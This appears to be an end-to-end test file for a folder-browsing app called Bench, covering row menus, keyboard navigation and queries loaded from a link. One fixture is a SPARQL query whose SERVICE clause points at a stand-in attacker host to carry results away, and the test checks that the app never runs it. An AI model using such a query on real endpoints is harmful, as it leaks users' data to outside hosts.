/// <reference lib="dom" />
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { register, signIn } from './steps.ts'
import { createWorld, type Visitor, type World } from './world.ts'

/** A row of Bench's folders is a link with a button inside: native buttons beside react-aria's grid. */
describe('a folder in Bench', () => {
  let world: World
  let alice: Visitor

  beforeAll(async () => {
    world = await createWorld()
    alice = await world.person('alice')
    await register(alice.page, world.serverA, { name: 'Alice Mora', pod: 'alice' })
    await signIn(alice.page, world.apps.bench, `${world.serverA}alice/`)
    await alice.page.goto(`${world.apps.bench}browse?url=${encodeURIComponent(`${world.serverA}alice/`)}`)
    await alice.page.getByRole('grid', { name: 'In this folder' }).waitFor()
    await alice.settled()
  })
  afterAll(async () => {
    await alice?.close()
    await world?.close()
  })

  it('opens the menu of a row and not the row, by mouse and by keyboard', async () => {
    const { page } = alice
    const here = page.url()
    const actions = page.getByRole('button', { name: 'Actions for profile' })
    await actions.click()
    await page.getByRole('menuitem', { name: 'Who can see this' }).waitFor()
    await page.keyboard.press('Escape')
    await page.getByRole('menu').waitFor({ state: 'detached' })
    // The arrow keys belong to the grid: they walk its rows.
    for (const key of ['Enter', 'Space']) {
      await actions.press(key)
      await page.getByRole('menuitem', { name: 'Who can see this' }).waitFor()
      await page.keyboard.press('Escape')
      await page.getByRole('menu').waitFor({ state: 'detached' })
    }
    expect(page.url()).toBe(here)
  })

  it('opens the row within the app, by keyboard', async () => {
    const { page } = alice
    await page.evaluate(() => Object.assign(globalThis, { isSamePage: true }))
    await page.getByRole('row', { name: 'profile' }).press('Enter')
    await page.waitForURL((url) => (url.searchParams.get('url') ?? '').endsWith('/profile/'))
    expect(await page.evaluate(() => 'isSamePage' in globalThis)).toBe(true)
  })

  it('a link brings a query along and has it asked, but none that could carry the answer away', async () => {
    const { page } = alice
    const asked: string[] = []
    page.on('request', (request) => {
      if (request.url().includes('.sparql')) asked.push(request.postData() ?? '')
    })
    for (const [query, times] of [
      ['SELECT * { ?s ?p ?o SERVICE <https://evil.example/> { ?s ?q ?o } }', 0],
      ['SELECT * { ?s ?p ?o } LIMIT 7', 1],
    ] as const) {
      asked.length = 0
      await page.goto('about:blank')
      await page.goto(`${world.apps.bench}#${new URLSearchParams({ query })}`)
      await page.getByText(query.slice(0, 20)).first().waitFor()
      const askedFor = () => asked.filter((text) => text.includes(query)).length
      // The editor shows it before its code for asking is there.
      await expect.poll(askedFor).toBe(times)
      await alice.settled()
      expect(askedFor()).toBe(times)
    }
  })
})
